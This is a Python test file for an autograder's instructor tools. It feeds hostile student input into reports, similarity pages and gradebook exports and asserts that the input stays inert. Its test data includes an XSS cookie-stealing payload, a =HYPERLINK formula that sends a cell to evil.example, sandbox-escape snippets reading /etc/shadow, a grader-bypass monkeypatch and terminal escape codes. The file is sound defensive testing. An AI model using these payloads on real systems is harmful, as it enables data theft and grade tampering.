"""A hostile class against the instructor's views: the class's own mistakes, the similarity
pages, the facilitator's class view, the deadlines and the report.

Those views show what learners wrote (function source, strings, exception messages,
timestamps) to the instructor. Each test here is an attack a student who wants points, or
wants to hurt the instructor, would try, with what a safe view must do: show it inert, skip
it for that student only, or refuse to carry it into the grader.
"""
from __future__ import annotations

import csv
import io
import os
import re
import time
from pathlib import Path

import pytest

from autograder.authoring import facilitator
from autograder.instructor import late_report, report, similarity
from autograder.instructor import mistake_groups as mg
from autograder.instructor import policy as pol
from autograder.instructor.learner_code import MAX_HELPERS, function_source, own_helpers
from autograder.learner.registry import load_exercises, select
from tests.support import LOOP, OTHER, write_forward_general

ROOT = Path(__file__).resolve().parent.parent
SCRIPT = re.compile(r"<\s*/?\s*(script|img|svg|iframe)\b", re.IGNORECASE)   # a live tag
PAYLOAD = '"</pre><script>alert(document.cookie)</script><img src=x onerror=alert(1)>"'


# --------------------------------------------------------------------------- one file, whole class
@pytest.mark.parametrize("body", [
    "    return " + "-" * 200_000 + "x\n",              # MemoryError in the parser
    "    return x" + "+x" * 100_000 + "\n",              # RecursionError in the parser
], ids=["deep-unary", "long-sum"])
def test_a_file_the_parser_cannot_hold_is_skipped_not_fatal(body):
    text = "def f(x):\n" + body
    assert len(text.encode()) < 1_000_000                # under the reader's size cap
    assert function_source(text, "f") is None
    assert own_helpers(text, "f", set()) == []


def test_ten_thousand_helpers_do_not_stall_the_class_commands():
    n = 10_000
    text = ("def f(x):\n" + "".join(f"    x = h{i}(x)\n" for i in range(n)) + "    return x\n"
            + "".join(f"def h{i}(x):\n    return g{i}(x)\n\ndef g{i}(x):\n    return x\n"
                      for i in range(n)))
    start = time.process_time()
    helpers = own_helpers(text, "f", set())
    spent = time.process_time() - start
    assert len(helpers) == MAX_HELPERS
    assert spent < 30, spent          # before the cap: over 300 s (quadratic in the helpers)


def test_one_unparsable_submission_leaves_the_similarity_of_the_others(tmp_path):
    submitted = tmp_path / "submitted"
    write_forward_general(submitted, "ann", LOOP.format(z="z", a="a", i="i"))
    write_forward_general(submitted, "bo", LOOP.format(z="h", a="s", i="k"))
    write_forward_general(submitted, "cy", OTHER)
    write_forward_general(submitted, "mallory", "    return x" + "+x" * 100_000 + "\n")
    specs = select(load_exercises(), ["sprint2.forward_general"])
    pairs = similarity.compare_class(submitted, "sprint2", specs)
    assert (pairs[0].a, pairs[0].b) == ("ann", "bo") and pairs[0].score > 0.9
    assert all(p.compared == 0 for p in pairs if {"mallory", "trent"} & {p.a, p.b})


# --------------------------------------------------------------------------- markup
def test_learner_code_in_the_similarity_pages_is_inert(tmp_path):
    """copydetect's highlighter escapes; the attack sits inside and outside the matches."""
    submitted = tmp_path / "grading" / "submitted"
    evil = LOOP.format(z="z", a="a", i="i").replace(
        "    n_layers", f"    note = {PAYLOAD}\n    n_layers")
    write_forward_general(submitted, "ann", evil)
    write_forward_general(submitted, "bo", evil.replace("note", "other"))
    write_forward_general(submitted, "cy", OTHER)
    written = similarity.write_report(tmp_path / "grading", "sprint2", top=3)
    page = (tmp_path / "grading" / "similarity" / "pairs" /
            similarity.pair_file(written["pairs"][0])).read_text()
    assert "alert(document.cookie)" in page            # shown, as text
    assert "&lt;script&gt;" in page and "<mark>" in page
    for text in (page, written["index"].read_text()):
        assert not SCRIPT.search(text)


def test_learner_code_and_messages_in_the_class_report_are_inert():
    group = mg.MistakeGroup("sprint2.forward", "G1", ("ann", "bo"), first_case=1,
                            first_case_label="forward(x)", representative="ann",
                            source=f"def forward(network, x):\n    return {PAYLOAD}\n",
                            message=PAYLOAD)
    em = mg.ExerciseMistakes("sprint2.forward", title=PAYLOAD, submissions=3, wrong=2,
                             compared_cases=1, groups=[group])
    html_ = "\n".join(report.render_mistakes([em]))
    assert "alert(document.cookie)" in html_ and not SCRIPT.search(html_)
    row = report.GradeRow("ann", "sprint2", "sprint2.forward", 0.0, 1.0, "failed", PAYLOAD)
    page = report.render_student("ann", "sprint2", [row])
    assert "alert(document.cookie)" in page and not SCRIPT.search(page)


def test_the_facilitator_view_carries_no_learner_text():
    """The class view is for the session (shown on a projector, maybe rendered as markdown):
    no names, no code, no message — only sizes, hints of the course and case numbers."""
    group = mg.MistakeGroup("sprint2.forward", "G1", ("ann_secret", "bo_secret"),
                            first_case=2, first_case_hidden=True, representative="ann_secret",
                            source=f"def forward(network, x):\n    return {PAYLOAD}\n",
                            message=PAYLOAD, answer="deadbeef")
    em = mg.ExerciseMistakes("sprint2.forward", title="Forward pass", submissions=3, wrong=2,
                             compared_cases=2, groups=[group])
    text = facilitator.class_section([em])
    assert "G1: 2 students" in text and "hidden case 2" in text
    for leak in ("secret", "alert", "deadbeef", "<", "return"):
        assert leak not in text


# --------------------------------------------------------------------------- promote
MODULE = (ROOT / "helpers" / "forward.py").read_text()


def _declare(extra: str, body: str):
    spec = select(load_exercises(), ["sprint2.forward"])[0]
    module = MODULE + "\n\n" + extra + "\n\ndef forward(network, x):\n" + body
    group = mg.MistakeGroup("sprint2.forward", "G2", ("ann", "bo"), first_case=1,
                            source=function_source(module, "forward"), representative="ann")
    return mg.declaration(group, "A hint.", spec, module)


@pytest.mark.parametrize("extra, body, says", [
    # runs when the instructor pastes (imports) the declaration
    ("class _Layer:\n    import os\n    def __call__(self, x):\n        return x\n",
     "    return _Layer()(x)\n", "a class"),
    # runs in the grader when the mistake is called, outside the jail
    ("def _helper(x):\n    return x" + " " * 300 + "; np.allclose = lambda *a, **k: True\n",
     "    return _helper(x)\n", "changes np.allclose"),
    ("def _helper(x):\n    return getattr(np, 'save')\n", "    return _helper(x)\n",
     "getattr"),
    ("", "    import subprocess\n    return x\n", "import"),
    ("", "    return x.__class__.__bases__[0].__subclasses__()\n", ".__subclasses__"),
    ("", "    g = lambda y=open('/etc/shadow'): y\n    return x\n", "open"),
], ids=["class", "hidden-line", "getattr", "import", "dunder",
        "lambda-default"])
def test_a_promoted_mistake_never_carries_code_that_runs_on_paste_or_escapes(extra, body,
                                                                                says):
    with pytest.raises(mg.MistakeError, match=re.escape(says)):
        _declare(extra, body)


def test_a_default_value_that_runs_on_paste_is_refused():
    spec = select(load_exercises(), ["sprint2.forward"])[0]
    module = MODULE + "\n\ndef forward(network, x, _=__import__('os').getpid()):\n" \
        "    return x\n"
    group = mg.MistakeGroup("sprint2.forward", "G2", ("ann", "bo"), first_case=1,
                            source=function_source(module, "forward"), representative="ann")
    with pytest.raises(mg.MistakeError, match="default value"):
        mg.declaration(group, "A hint.", spec, module)


def test_a_decorated_function_is_refused():
    spec = select(load_exercises(), ["sprint2.forward"])[0]
    module = (MODULE + "\n\ndef _log(f):\n    return f\n\n\n@_log\n"
              "def forward(network, x):\n    return x\n")
    group = mg.MistakeGroup("sprint2.forward", "G2", ("ann", "bo"), first_case=1,
                            source=function_source(module, "forward"), representative="ann")
    assert group.source.startswith("@_log")
    with pytest.raises(mg.MistakeError, match="decorator"):
        mg.declaration(group, "A hint.", spec, module)


def test_a_promoted_mistake_is_reprinted_without_comments_annotations_or_long_lines():
    text = _declare(
        "def _layer(x, w, b) -> print('annotation runs on paste'):\n"
        "    return sigmoid(x @ w + b)  # a comment the reviewer would read as the truth\n",
        '    h = _layer(x, network["W1"], network["b1"]);' + " " * 300 + "y = 2 * h\n"
        "    return y\n")
    assert "annotation runs" not in text and "the truth" not in text
    assert max(len(line) for line in text.splitlines()) < 120
    assert "    y = 2 * h" in text                   # the hidden statement on its own line
    namespace: dict = {}
    exec(compile(text, "declaration.py", "exec"), namespace)   # pasting runs nothing else
    assert namespace["MISTAKE"].hint == "A hint."


# --------------------------------------------------------------------------- timestamps
@pytest.fixture
def policy():
    return pol.parse_policy('timezone = "UTC"\n[sprints.sprint1]\ndue = 2026-10-05T23:59:00\n')


def test_a_timestamp_that_is_a_link_a_fifo_huge_or_not_utf8_is_flagged(tmp_path, policy):
    outside = tmp_path / "outside.txt"
    outside.write_text("2026-10-01 00:00:00 UTC")      # on time, if it were followed
    cases = {}
    for name in ("link", "fifo", "huge", "latin1", "dir"):
        folder = tmp_path / name
        folder.mkdir()
        cases[name] = folder
    (cases["link"] / "timestamp.txt").symlink_to(outside)
    os.mkfifo(cases["fifo"] / "timestamp.txt")          # would block a plain read
    (cases["huge"] / "timestamp.txt").write_text("2026-10-01 00:00:00 UTC" + " " * 10_000_000)
    (cases["latin1"] / "timestamp.txt").write_bytes("2026-10-01 00:00:00 UTC \xe9".encode(
        "latin-1"))
    (cases["dir"] / "timestamp.txt").mkdir()
    start = time.monotonic()
    for name, folder in cases.items():
        got = pol.assess(policy, "mallory", "sprint1", pol.read_stamp(folder))
        assert got.status == pol.FLAGGED and got.submitted is None, name
    assert time.monotonic() - start < 10
    good = tmp_path / "good"
    good.mkdir()
    (good / "timestamp.txt").write_text("2026-10-01 00:00:00 UTC")
    assert pol.assess(policy, "ann", "sprint1", pol.read_stamp(good)).status == pol.ON_TIME


def test_a_timestamp_full_of_markup_or_formulas_stays_text_in_the_views(tmp_path, policy):
    folder = tmp_path / "mallory" / "sprint1"
    folder.mkdir(parents=True)
    (folder / "timestamp.txt").write_text('=HYPERLINK("http://x",' + PAYLOAD + ")")
    late = pol.assess_folder(policy, tmp_path, [("mallory", "sprint1")])
    rec = late[("mallory", "sprint1")]
    assert rec.status == pol.FLAGGED
    assert not rec.note.startswith(("=", "+", "-", "@"))
    rows = [{"student": "mallory", "assignment": "sprint1", "exercise": "sprint1.x",
             "status": "passed", "score": 1.0, "max_score": 1.0, "message": "",
             "final_score": 1.0, "penalty": "",
             "late_status": rec.status, "days_late": "", "late_penalty": "",
             "submitted_at": "", "due_at": "", "late_note": rec.note}]
    rows = [report.GradeRow.from_csv(r) for r in rows]
    section = "\n".join(late_report.report_section(late_report.submissions(rows)) or [])
    assert not SCRIPT.search(section)


# --------------------------------------------------------------------------- similarity ranking
def test_a_copy_padded_with_dead_code_still_ranks_first(tmp_path):
    """Sixty lines that never run, added to a copy, halve the copy's own share of matching
    code; the share of the original found in the copy stays whole, and that is the figure."""
    pad = "    if x is None:\n" + "".join(
        f"        t{i} = np.sum(np.maximum(x, {i}) * network['W{i % 3 + 1}'].T) / (1 + {i})\n"
        f"        q{i} = [k for k in network if len(k) > {i}]\n" for i in range(60))
    submitted = tmp_path / "submitted"
    write_forward_general(submitted, "ann", LOOP.format(z="z", a="a", i="i"))
    write_forward_general(submitted, "cy", OTHER)
    write_forward_general(submitted, "copier", pad + LOOP.format(z="h", a="s", i="k"))
    specs = select(load_exercises(), ["sprint2.forward_general"])
    pairs = similarity.compare_class(submitted, "sprint2", specs)
    assert (pairs[0].a, pairs[0].b) == ("ann", "copier")
    assert pairs[0].score > 0.8 > 0.3 > pairs[1].score       # the mean of shares gave 0.44


# --------------------------------------------------------------------------- LMS exports
def test_no_export_cell_starts_a_formula_from_a_learners_display_name():
    from autograder.instructor import lms

    book = lms.Gradebook(["sprint1"], {"sprint1": 10.0},
                         [lms.StudentTotals("ann", {"sprint1": 7.0}),
                          lms.StudentTotals("bo", {"sprint1": 9.0})])
    roster = {"ann": {"name": '=HYPERLINK("http://evil.example/?"&A1,"Ann")',
                      "canvas_id": "101", "section": "@SUM(1+1)", "email": "ann@uni.example"},
              "bo": {"name": "Bo", "canvas_id": "102", "section": "+A", "email": "bo@u.example"}}
    for fmt in ("canvas", "generic", "moodle"):
        text = lms.export(book, roster, fmt).text
        rows = list(csv.reader(io.StringIO(text)))
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@")), (fmt, cell)
        if fmt != "moodle":
            assert "'=HYPERLINK" in text            # shown, as text
    # the column Canvas or Moodle matches a student on stays exact: refused, not altered
    roster["ann"]["canvas_id"] = ""
    with pytest.raises(lms.LmsError, match="formula"):
        lms.export(book, roster, "canvas")
    roster["ann"]["email"] = "=1+1@x.example"
    with pytest.raises(lms.LmsError, match="formula"):
        lms.export(book, roster, "moodle")


def test_a_huge_function_is_listed_for_a_person_not_fingerprinted_against_everyone(tmp_path):
    """800 KB of statements would cost every pair of the class seconds of copydetect."""
    big = "".join(f"    v{i} = np.sum(x * {i}) + {i % 7}\n" for i in range(20_000)) \
        + LOOP.format(z="z", a="a", i="i")
    bigger = big + "".join(f"    w{i} = np.sum(x * {i}) + {i % 7}\n" for i in range(20_000))
    submitted = tmp_path / "grading" / "submitted"
    write_forward_general(submitted, "ann", LOOP.format(z="z", a="a", i="i"))
    write_forward_general(submitted, "bo", LOOP.format(z="h", a="s", i="k"))
    write_forward_general(submitted, "cy", OTHER)
    write_forward_general(submitted, "mallory", big)
    write_forward_general(submitted, "trent", bigger)           # past the reader's 1 MB: listed too
    start = time.process_time()
    written = similarity.write_report(tmp_path / "grading", "sprint2", top=3)
    assert time.process_time() - start < 30
    pairs = written["pairs"]
    assert all(p.compared == 0 for p in pairs if {"mallory", "trent"} & {p.a, p.b})
    assert (pairs[0].a, pairs[0].b) == ("ann", "bo")
    index = written["index"].read_text()
    assert '<ul id="too-long">' in index and "mallory: sprint2.forward_general" in index
    assert re.search(r"<li>trent: [^<]*sprint2\.forward_general", index)   # the whole file
    # each side's share is on the pair's page: a padded copy shows as a gap
    page = (tmp_path / "grading" / "similarity" / "pairs" /
            similarity.pair_file(pairs[0])).read_text()
    assert re.search(r"\d+% of ann's code is found in bo's", page)


def test_learner_code_printed_by_mistakes_code_cannot_drive_the_terminal():
    source = ('def forward(network, x):\n    s = "\x1b]2;pwned\x07\x1b[2J\u202e"\n'
              "    return x\n")
    group = mg.MistakeGroup("sprint2.forward", "G1", ("ann", "bo"), first_case=1,
                            representative="ann", source=source)
    em = mg.ExerciseMistakes("sprint2.forward", submissions=3, wrong=2, compared_cases=1,
                             groups=[group])
    text = mg.render_text([em], sources=True)
    assert "| def forward(network, x):" in text
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "\\x1b]2;pwned" in text                      # shown, escaped


def test_two_pairs_never_share_a_side_by_side_page():
    """Ids may hold '-': ("a--b", "c") and ("a", "b--c") must not write one file, or the
    instructor would read one pair's code under the other pair's names."""
    one = similarity.PairSimilarity("a--b", "c", "sprint2")
    two = similarity.PairSimilarity("a", "b--c", "sprint2")
    assert similarity.pair_file(one) != similarity.pair_file(two)


@pytest.mark.parametrize("one, two", [("ann", "ann."), ("ann", "ann.."), ("jos\u00e9", "jos_")])
def test_two_students_never_share_a_results_page_or_a_pair_page(one, two):
    """Every id here passes the grader's intake (^\\w[\\w.-]{0,63}$); a shared file name would
    give one learner the other's results page."""
    assert re.fullmatch(r"\w[\w.-]{0,63}", one) and re.fullmatch(r"\w[\w.-]{0,63}", two)
    assert report._safe_name(one) != report._safe_name(two)
    x = similarity.PairSimilarity(one, "cy", "sprint2")
    y = similarity.PairSimilarity(two, "cy", "sprint2")
    assert similarity.pair_file(x) != similarity.pair_file(y)
